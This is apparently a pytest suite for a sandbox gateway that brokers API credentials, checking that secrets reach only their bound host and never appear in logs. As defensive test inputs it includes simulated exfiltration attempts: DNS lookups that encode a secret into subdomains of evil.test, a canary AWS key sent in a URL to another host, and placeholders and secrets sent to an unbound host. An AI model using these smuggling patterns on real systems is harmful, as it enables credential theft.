"""Credentials through a real gateway: the secret arrives where it is bound, and nothing of it anywhere else."""

from __future__ import annotations

import json
import select
from typing import TYPE_CHECKING

import pytest

from paddock.credentials.brokered import Brokered, Secret
from paddock.credentials.canaries import Canary
from paddock.errors import PolicyError
from paddock.frozen import replace
from paddock.gateway.secrets import custody, proofs
from paddock.gateway.secrets.custody import Custody
from paddock.gateway.server import Entrusted
from paddock.gateway.tls import roots
from paddock.plan.model import Bound, Credential, Network, Rule
from paddock.policy.model import Origin
from tests.gateway.conftest import endpoint_of
from tests.gateway.secure import Certificates, Service, serving

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.gateway.conftest import Allow, Sandbox

API = "api.example.test"
REAL, FAKE = "sk-real-0123456789abcdef", "sk-fake-zyxwvutsrqponmlk"
ORIGIN = Origin("person", "policy.toml:1")


def brokered(*bound: Bound, shape: str = "bearer", secret: str = REAL, placeholder: str = FAKE) -> Brokered:
    credential = Credential("model", "env:KEY", shape, bound or (Bound(API, 443),), ("KEY",), ORIGIN)
    return Brokered(credential, placeholder, Secret(secret))


@pytest.fixture(scope="module")
def certificates(tmp_path_factory: pytest.TempPathFactory) -> Certificates:
    return Certificates(tmp_path_factory.mktemp("certificates"))


@pytest.fixture(scope="module")
def service(certificates: Certificates) -> Iterator[Service]:
    with serving(certificates.server(API, "web.example.test", "localhost")) as made:
        yield made


@pytest.fixture
def trust(tmp_path: Path, certificates: Certificates, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the gateway writes whom to trust."""
    monkeypatch.setenv("SSL_CERT_FILE", str(certificates.path))
    path = tmp_path / "trust"
    path.mkdir()
    return path


def curl(sandbox: Sandbox, trust: Path, url: str, *more: str) -> bytes:
    done = sandbox.run("curl", "-sS", "-i", "--cacert", str(trust / "bundle.pem"), url, *more)
    return done.out + done.err


def test_the_service_sees_the_secret_and_the_client_never_does(
    sandbox: Sandbox, allow: Allow, rule: Callable[..., Rule], service: Service, trust: Path
) -> None:
    allow(rule(API, 443, service.port), entrusted=Entrusted((brokered(),), directory=str(trust)))
    said = curl(sandbox, trust, f"https://{API}/v1/x", "-H", f"Authorization: Bearer {FAKE}", "-d", "hello")
    assert service.headers()["authorization"] == f"Bearer {REAL}"
    assert service.seen[-1][2] == b"hello"
    assert REAL.encode() not in said
    assert said.count(FAKE.encode()) == 2  # in a header and in the body, as the service has echoed it
    assert allow.wait_for(kind="used", name=API)["credential"] == "model"


def test_git_gets_it_without_asking(
    sandbox: Sandbox, allow: Allow, rule: Callable[..., Rule], service: Service, trust: Path
) -> None:
    held = brokered(shape="basic")
    allow(rule(API, 443, service.port), entrusted=Entrusted((held,), directory=str(trust)))
    sandbox.run("env", f"GIT_SSL_CAINFO={trust}/bundle.pem", "git", "ls-remote", f"https://{API}/repo.git")
    assert service.headers()["authorization"].startswith("Basic ")


def test_at_another_host_the_placeholder_is_refused_by_its_credentials_name(
    sandbox: Sandbox, allow: Allow, rule: Callable[..., Rule], service: Service, trust: Path
) -> None:
    allow(
        rule(API, 443, service.port),
        rule("web.example.test", 443, service.port, methods=("GET", "POST")),
        entrusted=Entrusted((brokered(),), directory=str(trust)),
    )
    before = len(service.seen)
    for more in (("-H", f"X-Key: {FAKE}"), ("-d", f"key={FAKE}"), ("-d", f"key={REAL}")):
        said = curl(sandbox, trust, "https://web.example.test/", *more)
        assert b"403 Forbidden" in said
        assert b'"credential": "model"' in said
        assert REAL.encode() not in said
    assert len(service.seen) == before
    assert allow.wait_for(reason="placeholder-elsewhere")["credential"] == "model"
    allow.wait_for(reason="secret-outgoing")
    assert REAL not in allow.record.read_text()
    assert FAKE not in allow.record.read_text()


def test_an_agents_endpoint_speaks_tls_outside_only(
    sandbox: Sandbox, allow: Allow, service: Service, trust: Path
) -> None:
    upstream = f"https://localhost:{service.port}"
    rule = Rule("127.0.0.1", 61001, ORIGIN, private=True, upstream=upstream, loopback=True)
    allow(rule, entrusted=Entrusted((brokered(Bound("localhost", service.port)),)))
    done = sandbox.run("curl", "-sS", "http://127.0.0.1:61001/v1/x", "-d", "hello")
    seen = {name.lower(): value for name, value in json.loads(done.out)["headers"]}
    assert seen["host"] == f"localhost:{service.port}"
    assert seen["authorization"] == f"Bearer {FAKE}"
    assert service.headers()["authorization"] == f"Bearer {REAL}"
    assert [*trust.iterdir()] == []  # nothing is terminated


def test_over_plain_http_to_another_machine_it_does_not_go(
    sandbox: Sandbox, allow: Allow, rule: Callable[..., Rule], trust: Path
) -> None:
    with serving(None) as plain:
        network = rule(API, 80, plain.port)
        allow(network, entrusted=Entrusted((brokered(Bound("elsewhere.example.test", 443)),), directory=str(trust)))
        done = sandbox.run("curl", "-sS", f"http://{API}/", "-H", f"Authorization: Bearer {FAKE}")
        assert b"placeholder-elsewhere" in done.out
        assert plain.seen == []


def test_a_canary_ends_it_all(
    sandbox: Sandbox, allow: Allow, rule: Callable[..., Rule], service: Service, trust: Path
) -> None:
    canary = Canary("canary-aws", "/home/x/.aws/credentials", (b"AKIACANARYCANARY1234",))
    gateway = allow(
        rule("web.example.test", 443, service.port, methods=("GET",)),
        entrusted=Entrusted((), (canary,), directory=str(trust)),
    )
    before = len(service.seen)
    curl(sandbox, trust, "https://web.example.test/?id=AKIACANARYCANARY1234")
    assert select.select([gateway.descriptor], [], [], 20)[0]
    assert gateway.has_alarmed()
    assert "canary-aws was sent to web.example.test:443" in gateway.stop().ended
    assert len(service.seen) == before


@pytest.mark.parametrize("is_read", [True, False], ids=["terminated", "opaque"])
def test_an_upload_budget_holds_on_every_lane(  # noqa: PLR0913, PLR0917 - its parts
    sandbox: Sandbox,
    allow: Allow,
    rule: Callable[..., Rule],
    certificates: Certificates,
    service: Service,
    trust: Path,
    is_read: bool,
) -> None:
    more = {"methods": ("POST",)} if is_read else {}
    allow(rule(API, 443, service.port, upload=100_000, **more), entrusted=Entrusted(directory=str(trust)))
    if not is_read:
        (trust / "bundle.pem").write_bytes(certificates.path.read_bytes())
    before = len(service.seen)
    (trust / "data").write_bytes(bytes(60_000))
    upload = ("--data-binary", f"@{trust}/data", "-H", "Expect:")
    assert b"200 OK" in curl(sandbox, trust, f"https://{API}/one", *upload)
    said = curl(sandbox, trust, f"https://{API}/two", *upload)
    assert (b"413 Content Too Large" in said) is is_read
    assert b"200 OK" not in said
    assert len([one for one in service.seen[before:] if len(one[2]) == 60_000]) == 1
    allow.wait_for(kind="refused", name=API, reason="upload-spent")


def test_a_rule_that_comes_later_cannot_be_kept_and_is_refused(
    sandbox: Sandbox,
    allow: Allow,
    rule: Callable[..., Rule],
    service: Service,
    trust: Path,
    certificates: Certificates,
) -> None:
    """Without an authority that was made for the host, its TLS cannot be read, so it is not let through unread."""
    allow(rule(API, 443, service.port, methods=("GET",)))
    (trust / "bundle.pem").write_bytes(certificates.path.read_bytes())
    assert b"access denied" in curl(sandbox, trust, f"https://{API}/")
    allow.wait_for(reason="tls-late-rule")


def test_a_secret_that_is_too_short_to_be_looked_for_is_refused() -> None:
    custody.check([brokered()])
    with pytest.raises(PolicyError, match="model is shorter than 8"):
        custody.check([brokered(secret="1234567")])
    with pytest.raises(PolicyError):
        custody.check([brokered(shape="sigv4", secret="AKIDEXAMPLE:short", placeholder="A:B")])


def test_an_agents_own_key_may_be_a_word_that_is_no_secret_and_is_swapped_all_the_same() -> None:
    one = brokered(secret="dummy")
    word = replace(one, credential=replace(one.credential, origin=Origin("agent", "OPENAI_API_KEY")))
    custody.check([word])
    held = Custody([word])
    assert [needle.kind for needle in held.needles.all] == ["placeholder"]
    assert proofs.echoes(word) == ()


def test_the_place_that_is_written_and_the_one_that_is_dialled_both_count() -> None:
    held = Custody([brokered()])
    places = [
        (Rule(API, 443, ORIGIN), 1),
        (Rule(API, 8443, ORIGIN), 0),
        (Rule("web.example.test", 443, ORIGIN), 0),
        (Rule("127.0.0.1", 61001, ORIGIN, upstream=f"https://{API}:443", loopback=True), 1),
        (Rule("127.0.0.1", 443, ORIGIN, upstream="https://web.example.test:443", loopback=True), 0),
    ]
    for rule, count in places:
        assert len(held.bound(endpoint_of(rule), b"GET", b"/")) == count, rule


def test_the_files_are_there_also_where_a_credential_has_no_secret_today(tmp_path: Path) -> None:
    """The plan's variables lead there, and programs must go on believing whom the host believes."""
    held = custody.prepare(Network("allow", (Rule(API, 443, ORIGIN),), ORIGIN), (), (), str(tmp_path), {})
    assert held.authority is None
    assert (tmp_path / "bundle.pem").read_bytes() == b"".join(roots.trusted_here({}))


def test_nothing_is_made_that_is_not_needed() -> None:
    plain = custody.prepare(Network("allow", (Rule(API, 443, ORIGIN),), ORIGIN), (), (), "", {})
    assert plain.authority is None
    assert plain.upstreams is None
    upstream = Rule("127.0.0.1", 61001, ORIGIN, upstream=f"https://{API}:443", loopback=True)
    outward = custody.prepare(Network("allow", (upstream,), ORIGIN), (), (), "", {})
    assert outward.authority is None
    assert outward.upstreams is not None


def test_no_wildcard_carries_a_placeholder_out_in_a_name(
    sandbox: Sandbox, allow: Allow, rule: Callable[..., Rule]
) -> None:
    held = brokered(placeholder="placeholder-zyxwvutsrq")
    allow(Rule("*.example.test", 443, ORIGIN), entrusted=Entrusted((held,)))
    code = """
for name in ("www.example.test", "placeholder.-zyxwvutsrq.x.example.test", "x.placeholder-zyx.wvutsrq.example.test"):
    try: socket.getaddrinfo(name, 443); print("found")
    except OSError: print("none")
"""
    assert sandbox.python(code).split() == ["found", "none", "none"]
    allow.wait_for(kind="dns", name="x.placeholder-zyx.wvutsrq.example.test", reason="secret-in-name")


def test_no_secret_comes_into_the_record_by_a_name(sandbox: Sandbox, allow: Allow) -> None:
    """The record is exported to other programs, and outlives the session."""
    allow(Rule(API, 443, ORIGIN), entrusted=Entrusted((brokered(),)))
    names = (f"{REAL}.evil.test", REAL, f"x.{REAL[:9]}.{REAL[9:]}.test", REAL.encode().hex() + ".evil.test")
    code = f"""
for name in {names}:
    try: socket.getaddrinfo(name, 443); print("found")
    except OSError: print("none")
"""
    assert sandbox.python(code).split() == ["none"] * 4
    allow.wait_for(kind="dns", name="*", reason="secret-in-name")
    allow.wait_for(kind="dns", name="*.evil.test", reason="secret-in-name")
    written = json.dumps(allow.lines())
    assert REAL not in written
    assert REAL[9:] not in written
    assert REAL.encode().hex() not in written
